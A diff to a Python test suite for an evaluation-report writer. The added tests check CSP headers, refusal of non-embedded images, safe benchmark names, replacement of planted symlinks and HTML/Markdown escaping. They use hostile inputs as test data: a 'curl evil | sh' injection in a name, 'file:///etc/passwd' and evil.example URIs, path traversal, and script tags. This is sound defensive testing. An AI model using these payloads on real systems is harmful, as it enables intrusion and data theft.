@@ -1,5 +1,6 @@
 import argparse
 import base64
+import hashlib
 import io
 import json
 import re
@@ -14,8 +15,8 @@ from test_answer import make_model, mini  # noqa: F401  (a fixture)
 from mllm_jax.cli import report as report_verb
 from mllm_jax.evaluation.grouping import Entry, load_groups, paper_axes
 from mllm_jax.evaluation.regroup import regroup
-from mllm_jax.evaluation.report import cost_plot, plots, radar
-from mllm_jax.evaluation.report import write as report
+from mllm_jax.evaluation.report import content, cost_plot, losses, radar
+from mllm_jax.evaluation.report.example_sheet import plot_examples
 from mllm_jax.evaluation.report.runs import ReportError, load_runs
 from mllm_jax.evaluation.report.write import write_report
 from mllm_jax.evaluation.run import evaluate
@@ -167,7 +168,7 @@ def test_a_run_has_the_same_colour_in_every_chart(tmp_path):
     runs = load_runs([make_run(tmp_path / "dear"), make_run(tmp_path / "cheap", "linear", 36)])
     assert runs[0].costs["visual tokens per image"] > runs[1].costs["visual tokens per image"]
     for cost in set(runs[0].costs) & set(runs[1].costs):
-        points = report._cost_points("mini", runs, cost)  # colours go by their order
+        points = content._cost_points("mini", runs, cost)  # colours go by their order
         assert [point.series for point in points] == ["dear", "cheap"]
 
 
@@ -176,17 +177,17 @@ def test_loss_curves_and_what_a_restart_wrote_again(tmp_path):
     records = list(metrics("pretrain", 4))
     again = [record | {"loss": 9.0} for record in records[2:]]
     path.write_text("".join(json.dumps(r) + "\n" for r in records + again) + '{"stage": "pre')
-    found = plots.read_metrics(path)
+    found = losses.read_metrics(path)
     assert [record["step"] for record in found["pretrain"]] == [1, 2, 3, 4]
     assert [record["loss"] for record in found["pretrain"]][2:] == [9.0, 9.0]
-    plots.plot_losses(path, tmp_path / "loss.png")
+    losses.plot_losses(path, tmp_path / "loss.png")
     assert is_png(tmp_path / "loss.png")
     path.write_text('{"stage": "a", "step": 1, "loss": 1}\nbroken\n{"stage": "a", "step": 2, "loss": 1}\n')
     with pytest.raises(ValueError, match="line 2 is damaged"):
-        plots.read_metrics(path)
+        losses.read_metrics(path)
     path.write_text("")
     with pytest.raises(ValueError, match="no records"):
-        plots.plot_losses(path, tmp_path / "none.png")
+        losses.plot_losses(path, tmp_path / "none.png")
 
 
 def test_example_sheet(tmp_path):
@@ -201,7 +202,7 @@ def test_example_sheet(tmp_path):
         base | {"text": "", "right": False, "pictures": []},
         base | {"text": "a", "right": True, "pictures": [picture()] * 2},
     ]
-    plots.plot_examples(items, tmp_path / "examples.png")
+    plot_examples(items, tmp_path / "examples.png")
     assert is_png(tmp_path / "examples.png")
 
 
@@ -251,13 +252,156 @@ def test_report_of_several_runs(tmp_path, capsys):
 
 
 def test_many_runs_stand_under_each_other(tmp_path, monkeypatch):
-    monkeypatch.setattr(report, "_WIDE", 1)
+    monkeypatch.setattr(content, "_WIDE", 1)
     write_report([make_run(tmp_path / "r0"), make_run(tmp_path / "r1", "linear", 36)], tmp_path / "out")
     text = (tmp_path / "out" / "report.md").read_text()
     assert "| % | all | coarse | fine |" in text
     assert "| r1 | 80.0 | 80.0 | 80.0 |" in text
     assert "| r1 | linear | 84 |" in text
     assert "<summary>mini: examples of r1</summary>" in (tmp_path / "out" / "report.html").read_text()
+
+
+def test_runs_that_were_asked_other_questions_are_said_to_be(tmp_path):
+    runs = [make_run(tmp_path / name) for name in ("all", "few", "same")]
+    summary = json.loads((runs[1] / "eval" / "summary.json").read_text())
+    benchmark = summary["benchmarks"]["mini"]
+    benchmark["scores"]["n"] = 12
+    for row in benchmark["rows"]:
+        row["n"] = 6 if row["level"] == "group" else 12 if row["level"] == "all" else 3
+    (runs[1] / "eval" / "summary.json").write_text(json.dumps(summary))
+    for run, ids in zip(runs, (range(40), range(30, 42), range(40)), strict=True):
+        answers = "".join(json.dumps({"question_id": f"q{i}", "text": "a"}) + "\n" for i in ids)
+        (run / "eval" / "mini" / "predictions.jsonl").write_text(answers)
+    write_report(runs[:2], tmp_path / "out")
+    text = (tmp_path / "out" / "report.md").read_text()
+    assert "not asked the same questions (all 40, few 12); 10 question ids are common to all" in text
+    assert "are not to be compared" in text
+    assert (
+        "| % | n, all | n, few | all | few | all, blind | few, blind | all, majority | few, majority |"
+        in text
+    )
+    assert "| coarse | 20 | 6 | 80.0 |" in text
+    assert "40 questions." not in text
+    write_report([runs[0], runs[2]], tmp_path / "like")
+    text = (tmp_path / "like" / "report.md").read_text()
+    assert "40 questions." in text
+    assert "| % | n | all | same |" in text
+    assert "not asked" not in text
+    for run, digest in ((runs[0], "x"), (runs[2], "y")):  # the same ids, other prompts
+        (run / "eval" / "mini" / "manifest.json").write_text(json.dumps({"benchmark": digest}))
+    write_report([runs[0], runs[2]], tmp_path / "words")
+    text = (tmp_path / "words" / "report.md").read_text()
+    assert "asked the same 40 question ids, but in other words" in text
+
+
+def test_likelihood_has_its_sentence_and_the_level_of_guessing(tmp_path):
+    run = make_run(tmp_path / "run")
+    assert "likelihood" not in (write_report([run], tmp_path / "without")).read_text()
+    summary = json.loads((run / "eval" / "summary.json").read_text())
+    for row in summary["benchmarks"]["mini"]["rows"]:
+        row["values"] |= {"model": 0.0, "likelihood": 0.667}
+    (run / "eval" / "summary.json").write_text(json.dumps(summary))
+    rows = [{"question_id": "a", "rotation": r, "options": ["x", "y"]} for r in range(2)]
+    rows += [{"question_id": "b", "rotation": 0, "options": ["x", "y", "z", "u"]}]
+    (run / "eval" / "mini" / "predictions.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
+    write_report([run], tmp_path / "out")
+    text = (tmp_path / "out" / "report.md").read_text()
+    assert "“likelihood” is another way of asking" in text
+    assert "Guessing among the options gives 25.0 %" in text  # (1/2 of 1/2 + 1/4) / 2
+    with (run / "eval" / "mini" / "predictions.jsonl").open("a") as file:
+        file.write('["row"]\n')
+    with pytest.raises(ReportError, match=r"predictions\.jsonl line 4 is damaged"):
+        write_report([run], tmp_path / "out")
+
+
+def test_the_page_forbids_everything_that_is_not_inside_it(tmp_path):
+    page = write_report([make_run(tmp_path / "run")], tmp_path / "out").read_text()
+    policy = re.search(r'http-equiv="Content-Security-Policy" content="(.*?)"', page)[1]
+    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
+    style = re.search(r"<style>(.*?)</style>", page, re.DOTALL)[1]
+    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
+    assert f"'sha256-{digest}'" in policy
+    assert "style=" not in page  # the policy would drop them
+
+
+EPS = (
+    "data:image/png;base64," + base64.b64encode(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n").decode()
+)
+
+
+@pytest.mark.parametrize(
+    "uri",
+    ["https://evil.example/x.png", "file:///etc/passwd", "data:image/svg+xml;base64,PHN2Zz4=", "x.png", EPS],
+)
+def test_an_example_that_is_no_image_inside_the_file_is_refused(tmp_path, uri):
+    run = make_run(tmp_path / "run")
+    path = run / "eval" / "mini" / "examples.json"
+    path.write_text(json.dumps([one | {"pictures": [uri]} for one in json.loads(path.read_text())]))
+    with pytest.raises(ReportError, match=r"examples\.json"):
+        write_report([run], tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize(
+    "name", ["x/../../../../home/photo", "..", "a\n\ncurl evil | sh #", ".bashrc", "a\x1b]52;c;x\x07"]
+)
+def test_benchmark_names_of_a_run_folder_stay_inside(tmp_path, name):
+    run = make_run(tmp_path / "run")
+    summary = json.loads((run / "eval" / "summary.json").read_text())
+    summary["benchmarks"] = {name: summary["benchmarks"]["mini"], "mini": summary["benchmarks"]["mini"]}
+    (run / "eval" / "summary.json").write_text(json.dumps(summary))
+    with pytest.raises(ReportError, match=r"benchmark .* choose another name"):
+        write_report([run], tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+
+
+def test_planted_links_in_the_folder_of_a_report_are_replaced(tmp_path):
+    run, out = make_run(tmp_path / "run"), tmp_path / "out"
+    out.mkdir()
+    victim = tmp_path / ".profile"
+    victim.write_text("precious")
+    names = ("report.html", "report.md", "report.json", "radar.png", "loss_pretrain.png", "examples.png")
+    for name in names:
+        (out / name).symlink_to(victim)
+    write_report([run], out)
+    assert victim.read_text() == "precious"
+    assert not any((out / name).is_symlink() for name in names)
+
+
+def test_abilities_groups_and_answers_are_text_in_every_medium(tmp_path):
+    hostile = "<script>alert(1)</script>[x](javascript:y)"
+    run = make_run(tmp_path / "run")
+    folder = run / "eval"
+    for path in (folder / "summary.json", folder / "mini" / "examples.json"):
+        path.write_text(path.read_text().replace("counting", hostile).replace('"fine"', f'"{hostile}"'))
+    (tmp_path / "<img src=x>").mkdir()
+    run = run.rename(tmp_path / "<img src=x>" / "<b>")
+    page = write_report([run], tmp_path / "out").read_text()
+    text = (tmp_path / "out" / "report.md").read_text()
+    for shown in (page, text):
+        assert not re.search(r"(?<!\\)<(script|b>|img src=x)", shown)
+    assert "&lt;script&gt;" in page
+    assert r"\<script\>alert(1)\</script\>\[x\](javascript:y)" in text
+
+
+@pytest.mark.parametrize(
+    ("change", "message"),
+    [
+        (lambda s: s["model"].pop("llm"), "'model' has no 'llm'"),
+        (lambda s: s["model"].update(visual_tokens="many"), "'visual_tokens' is 'many'"),
+        (lambda s: s.update(benchmarks=[]), "'benchmarks' is not an object"),
+        (lambda s: s["benchmarks"]["mini"]["rows"].append({}), r"'rows'\[7\] has no 'level'"),
+        (lambda s: s["benchmarks"]["mini"]["scores"].update(groups={"a": "b"}), "'groups': 'a' is 'b'"),
+        (lambda s: s["benchmarks"]["mini"]["scores"].update(n=True), "'n' is True"),
+    ],
+)
+def test_a_summary_of_another_shape_is_a_message(tmp_path, change, message):
+    run = make_run(tmp_path / "run")
+    summary = json.loads((run / "eval" / "summary.json").read_text())
+    change(summary)
+    (run / "eval" / "summary.json").write_text(json.dumps(summary))
+    with pytest.raises(ReportError, match=rf"summary\.json cannot be read: .*{message}"):
+        load_runs([run])
 
 
 def test_the_chart_of_mmbench_has_the_papers_axes(tmp_path):
@@ -418,7 +562,7 @@ def test_groups_of_similar_names_have_their_own_pictures(tmp_path, monkeypatch):
             {"level": "group", "name": name, "group": name, "n": 1, "values": {"model": 0.5}}
             for name in names
         ]
-    (section,) = report._costs("mini", runs, tmp_path, "")
+    (section,) = content._costs("mini", runs, tmp_path, "")
     files = [picture.file for strip in section.parts for picture in strip.pictures]
     assert [(tmp_path / file).read_text() for file in files] == [
         f"visual tokens per image: {name}" for name in names
